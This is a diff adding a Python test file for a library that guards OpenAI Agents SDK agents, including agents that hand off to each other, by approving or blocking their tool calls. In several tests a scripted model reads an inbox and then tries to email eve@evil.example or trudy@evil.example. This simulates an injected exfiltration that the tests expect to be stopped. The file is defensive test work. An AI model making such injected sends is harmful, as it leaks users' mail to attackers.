@@ -1,0 +1,148 @@
+"""The OpenAI Agents SDK, with its own runner."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from typing import Any
+
+import pytest
+from agents import Agent, FunctionTool, Model, ModelResponse, Runner, Usage, WebSearchTool, function_tool, handoff, set_tracing_disabled
+from openai.types.responses import ResponseFunctionToolCall, ResponseOutputMessage, ResponseOutputText
+from pydantic import BaseModel
+
+from remit_client import Remit, Unprotected, WrongClient
+from remit_client.openai_agents import definitions, protect
+
+from .spec import READ, TOKEN, URL, Adapter, Office, Run, Script, send
+
+set_tracing_disabled(True)
+
+
+class Scripted(Model):
+    """Answers by a script, and keeps the results that it was given."""
+
+    def __init__(self, script: Script) -> None:
+        self.script = script
+        self.at = 0
+        self.input: list[Any] = []
+
+    async def get_response(self, system_instructions: Any, input: Any, *args: Any, **kwargs: Any) -> ModelResponse:
+        self.input = input
+        step = self.script[self.at]
+        self.at += 1
+        output: list[Any] = []
+        if isinstance(step, str):
+            text = ResponseOutputText(type="output_text", text=step, annotations=[])
+            output = [ResponseOutputMessage(id=f"m{self.at}", type="message", role="assistant", status="completed", content=[text])]
+        else:
+            output = [ResponseFunctionToolCall(type="function_call", call_id=f"c{self.at}_{n}", name=name, arguments=json.dumps(arguments)) for n, (name, arguments) in enumerate(step)]
+        return ModelResponse(output=output, usage=Usage(), response_id=None)
+
+    def stream_response(self, *args: Any, **kwargs: Any) -> Any:
+        raise NotImplementedError
+
+    def seen(self) -> list[str]:
+        return [str(item["output"]) for item in self.input if isinstance(item, dict) and item.get("type") == "function_call_output"]
+
+
+class TestOpenAIAgents(Adapter):
+    def agent(self, office: Office, model: Model) -> Agent[Any]:
+        return Agent(name="assistant", instructions="You are an assistant.", model=model, tools=[function_tool(f) for f in office.functions])
+
+    def run(self, run: Run, *, protected: bool = True) -> None:
+        asyncio.run(self.arun(run, protected))
+
+    async def arun(self, run: Run, protected: bool) -> None:
+        model = Scripted(run.script)
+        agent = self.agent(run.office, model)
+        try:
+            if not protected:
+                await Runner.run(agent, run.task)
+                return
+            async with run.async_remit() as remit:
+                session = await remit.session(tools=definitions(agent))
+                run.session = session.id
+                await session.user(run.task)
+                await Runner.run(protect(session, agent, approval_seconds=run.approval_seconds), run.task)
+        finally:
+            run.seen = model.seen()
+
+
+class TestHandoffs(TestOpenAIAgents):
+    """All of the above, where another agent has the tools that send."""
+
+    def agent(self, office: Office, model: Model) -> Agent[Any]:
+        mailer = Agent(name="mailer", instructions="You mail.", model=model, tools=[function_tool(f) for f in office.functions])
+        reader = Agent(name="reader", instructions="You read.", model=model, handoffs=[mailer])
+        mailer.handoffs = [reader]
+        return reader
+
+    def run(self, run: Run, *, protected: bool = True) -> None:
+        run.script.insert(0, [("transfer_to_mailer", {})])
+        super().run(run, protected=protected)
+        run.seen = run.seen[1:]
+
+    def test_an_honest_run_passes(self) -> None:
+        run = Run([[READ], [send("ann@corp.example")], "Done."])
+        self.run(run)
+        assert run.office.sent == ["ann@corp.example"]
+        assert [event["call"]["tool"] for event in run.events("call")] == ["transfer_to_mailer", "read_inbox", "send_email"]
+
+    def test_an_injected_call_is_stopped_and_explained(self) -> None:
+        run = Run([[READ], [send("eve@evil.example")], "Done."])
+        self.run(run)
+        assert run.office.sent == [] and "eve@evil.example" in run.seen[1]
+
+    def test_what_a_tool_raises_is_a_result(self) -> None:
+        run = Run([[("read_archive", {})], [send("trudy@evil.example")], "Done."])
+        self.run(run)
+        assert run.office.sent == []
+
+
+class Booking(BaseModel):
+    to: str
+
+
+@pytest.mark.parametrize(("to", "told"), [("ann@corp.example", ["ann@corp.example"]), ("eve@evil.example", [])])
+def test_a_handoff_with_arguments_is_decided(to: str, told: list[str]) -> None:
+    office = Office()
+    heard: list[str] = []
+    model = Scripted([[READ], [("send_to_mailer", {"to": to})], "Done."])
+    mailer = Agent(name="mailer", model=model)
+
+    def on(context: Any, booking: Booking) -> None:
+        heard.append(booking.to)
+
+    to_mailer = handoff(mailer, on_handoff=on, input_type=Booking, tool_name_override="send_to_mailer", tool_description_override="Sends a mail by the mailer.")
+    agent = Agent(name="reader", model=model, tools=[function_tool(office.read_inbox)], handoffs=[to_mailer])
+
+    async def run() -> str:
+        async with Run([]).async_remit() as remit:
+            session = await remit.session(tools=definitions(agent))
+            await session.user("Read my inbox, then send it to ann@corp.example by the mailer")
+            return (await Runner.run(protect(session, agent), "Go on")).last_agent.name
+
+    assert asyncio.run(run()) == ("mailer" if told else "reader")
+    assert heard == told
+    if not told:
+        assert "eve@evil.example" in model.seen()[-1]
+
+
+def test_what_nobody_decides_is_refused() -> None:
+    inner = Agent(name="inner", tools=[function_tool(Office().send_email)])
+
+    async def run() -> None:
+        async with Run([]).async_remit() as remit:
+            session = await remit.session()
+            for tool in (WebSearchTool(), inner.as_tool("ask", "Asks.")):
+                with pytest.raises(Unprotected):
+                    protect(session, Agent(name="a", tools=[tool]))
+            with pytest.raises(Unprotected):
+                protect(session, Agent(name="a", mcp_servers=[object()]))  # type: ignore[list-item, unused-ignore]
+            asked = protect(session, inner).as_tool("ask", "Asks.")
+            assert isinstance(protect(session, Agent(name="a", tools=[asked])).tools[0], FunctionTool)
+
+    asyncio.run(run())
+    with Remit(URL, TOKEN) as remit, pytest.raises(WrongClient):
+        protect(remit.session(), inner)  # type: ignore[arg-type]
